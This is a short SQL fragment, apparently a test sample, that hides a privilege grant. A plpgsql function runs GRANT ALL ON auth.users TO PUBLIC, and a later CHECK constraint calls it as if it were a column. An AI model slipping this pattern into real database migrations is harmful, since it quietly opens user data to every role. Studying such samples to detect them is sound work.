-- A check calls a function of an earlier revision, which grants, as if it were a column.
-- object: table auth.users
CREATE FUNCTION opened(scratch) RETURNS int LANGUAGE plpgsql AS $$ BEGIN GRANT ALL ON auth.users TO PUBLIC; RETURN 1; END $$
-- next revision
ALTER TABLE scratch ADD CHECK (scratch.opened IS NOT NULL)
